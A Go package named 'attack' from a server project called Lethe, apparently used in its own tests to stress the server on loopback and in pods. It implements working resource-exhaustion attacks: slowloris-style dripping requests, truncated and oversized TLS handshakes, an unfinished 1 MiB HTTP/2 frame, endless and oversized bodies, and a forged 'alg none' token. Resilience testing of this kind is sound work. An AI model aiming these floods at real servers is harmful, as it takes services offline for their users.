// Package attack does to a server of Lethe's what a broken-into bot would do over the network, bounded in number and
// time. The tests of the doors use it on loopback, and `make bench-attack` inside pods.
package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Kind of attack.
type Kind string

// Kinds. All but Calls need no token.
const (
	Silent    Kind = "silent"    // connections over which nothing is said
	HalfHello Kind = "halfhello" // the beginning of a TLS handshake
	BigHello  Kind = "bighello"  // a handshake's message that is announced large, and nearly all sent
	Frames    Kind = "frames"    // HTTP/2's preface, and a frame of 1 MiB that is not finished
	Handshake Kind = "handshake" // TLS handshakes, one after the other
	Heads     Kind = "heads"     // heads of requests that drip
	Bodies    Kind = "bodies"    // bodies of requests that drip
	BigBodies Kind = "bigbodies" // bodies that are far too long, as fast as they go
	Chunks    Kind = "chunks"    // bodies in chunks without an end
	Deaf      Kind = "deaf"      // requests whose answers nobody reads
	Garbage   Kind = "garbage"   // requests with tokens that are none
	Calls     Kind = "calls"     // requests with a token that counts
)

// Kinds are those that need no token.
var Kinds = []Kind{Silent, HalfHello, BigHello, Frames, Handshake, Heads, Bodies, BigBodies, Chunks, Deaf, Garbage}

// Options of an attack.
type Options struct {
	Kind    Kind
	Address string // host:port of the server
	Path    string // of a call
	// Connections is how many are held at a time: each is made again when it was closed.
	Connections int
	// From, when set, is the address to come from.
	From net.IP
	// Token and Body of Calls.
	Token, Body string
	// Pause before a connection is made again.
	Pause time.Duration
	// Plain leaves TLS out.
	Plain bool
}

// Stats of an attack.
type Stats struct {
	Dialled, Connected, Answered, Ended atomic.Int64
}

func (s *Stats) String() string {
	return fmt.Sprintf("dialled %d, connected %d, answered %d, ended by the server %d", s.Dialled.Load(), s.Connected.Load(), s.Answered.Load(), s.Ended.Load())
}

// Run attacks until the context ends.
func Run(ctx context.Context, o Options, stats *Stats) {
	var all sync.WaitGroup
	for range o.Connections {
		all.Go(func() {
			for ctx.Err() == nil {
				once(ctx, o, stats)
				select {
				case <-ctx.Done():
				case <-time.After(o.Pause):
				}
			}
		})
	}
	all.Wait()
}

// once makes a connection and holds it as long as the server lets it.
func once(ctx context.Context, o Options, stats *Stats) {
	stats.Dialled.Add(1)
	dialer := net.Dialer{Timeout: 10 * time.Second}
	if o.From != nil {
		dialer.LocalAddr = &net.TCPAddr{IP: o.From}
	}
	raw, err := dialer.DialContext(ctx, "tcp", o.Address)
	if err != nil {
		return
	}
	stats.Connected.Add(1)
	defer raw.Close()
	defer context.AfterFunc(ctx, func() { raw.Close() })()
	if tcp, ok := raw.(*net.TCPConn); ok && o.Kind == Deaf {
		_ = tcp.SetReadBuffer(1)
	}
	var c io.ReadWriter = raw
	switch o.Kind {
	case Silent, HalfHello, BigHello:
	default:
		if !o.Plain {
			// Nobody's certificate is looked at: this is not a client.
			t := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols(o.Kind)})
			if t.HandshakeContext(ctx) != nil {
				stats.Ended.Add(1)
				return
			}
			c = t
		}
	}
	if say(ctx, c, o, stats) == nil && ctx.Err() == nil {
		// Held until the server ends it.
		_, _ = io.Copy(io.Discard, c)
	}
	if ctx.Err() == nil {
		stats.Ended.Add(1)
	}
}

func protocols(k Kind) []string {
	if k == Frames {
		return []string{"h2", "http/1.1"}
	}
	return nil
}

func (o Options) head(length string) string {
	return "POST " + o.Path + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" + length
}

// say does what the kind is about.
func say(ctx context.Context, c io.ReadWriter, o Options, stats *Stats) error {
	switch o.Kind {
	case HalfHello:
		return write(c, []byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3})
	case BigHello:
		return bigHello(c)
	case Frames:
		preface := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"
		return write(c, append([]byte(preface+"\x0f\xff\xff\x00\x00\x00\x00\x00\x01"), make([]byte, 1<<20-2)...))
	case Handshake:
		return io.EOF // that was all
	case Heads:
		return drip(ctx, c, o.head("X-Slow: "))
	case Bodies:
		return drip(ctx, c, o.head("Content-Length: 4000\r\nAuthorization: Bearer a.b.c\r\n\r\n"))
	case BigBodies:
		if err := write(c, []byte(o.head("Content-Length: 1073741824\r\nAuthorization: Bearer a.b.c\r\n\r\n"))); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := write(c, make([]byte, 64<<10)); err != nil {
				return err
			}
		}
		return ctx.Err()
	case Chunks:
		if err := write(c, []byte(o.head("Transfer-Encoding: chunked\r\nAuthorization: Bearer a.b.c\r\n\r\n"))); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := write(c, []byte("1\r\n \r\n")); err != nil {
				return err
			}
		}
		return ctx.Err()
	case Deaf:
		request := []byte(o.head("Content-Length: 2\r\nAuthorization: Bearer a.b.c\r\n\r\n{}"))
		for ctx.Err() == nil {
			if err := write(c, request); err != nil {
				return err
			}
		}
		return ctx.Err()
	case Garbage:
		return ask(ctx, c, o, "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.AAAA", "{}", stats)
	case Calls:
		return ask(ctx, c, o, o.Token, o.Body, stats)
	}
	return nil
}

// ask sends requests one after the other until the connection ends.
func ask(ctx context.Context, c io.ReadWriter, o Options, token, body string, stats *Stats) error {
	request := fmt.Sprintf("%sContent-Length: %d\r\nAuthorization: Bearer %s\r\n\r\n%s", o.head(""), len(body), token, body)
	buffer := make([]byte, 4096)
	for ctx.Err() == nil {
		if err := write(c, []byte(request)); err != nil {
			return err
		}
		n, err := c.Read(buffer)
		if err != nil {
			return err
		}
		stats.Answered.Add(1)
		if bytes.Contains(bytes.ToLower(buffer[:n]), []byte("connection: close")) {
			return io.EOF
		}
	}
	return ctx.Err()
}

// drip sends a beginning, and then a byte of nothing each second.
func drip(ctx context.Context, c io.Writer, beginning string) error {
	if err := write(c, []byte(beginning)); err != nil {
		return err
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-tick.C:
			if err := write(c, []byte("x")); err != nil {
				return err
			}
		}
	}
}

// bigHello sends all but the last byte of a ClientHello of 64 KiB, in the records that TLS has for it.
func bigHello(c io.Writer) error {
	const size = 65000
	message := append([]byte{1, 0, 0, 0}, make([]byte, size-1)...)
	binary.BigEndian.PutUint32(message, size|1<<24)
	for len(message) > 0 {
		n := min(len(message), 16000)
		record := append([]byte{22, 3, 1, byte(n >> 8), byte(n)}, message[:n]...)
		if err := write(c, record); err != nil {
			return err
		}
		message = message[n:]
	}
	return nil
}

func write(c io.Writer, b []byte) error {
	if conn, ok := c.(net.Conn); ok {
		_ = conn.SetWriteDeadline(time.Now().Add(time.Minute))
	}
	_, err := c.Write(b)
	return err
}

// Status sends raw text over a connection and reads the status of the answer; 0 where it ends without one.
func Status(c net.Conn, text string) (int, error) {
	if err := c.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		return 0, err
	}
	if _, err := io.Copy(c, strings.NewReader(text)); err != nil {
		return 0, err
	}
	buffer := make([]byte, 64)
	n, err := io.ReadAtLeast(c, buffer, len("HTTP/1.1 200"))
	if err != nil {
		return 0, nil //nolint:nilerr // it ended: that is the answer
	}
	var minor, status int
	if _, err := fmt.Sscanf(string(buffer[:n]), "HTTP/1.%d %d", &minor, &status); err != nil {
		return 0, fmt.Errorf("no answer of HTTP: %q", buffer[:n])
	}
	if http.StatusText(status) == "" {
		return 0, fmt.Errorf("status %d", status)
	}
	return status, nil
}
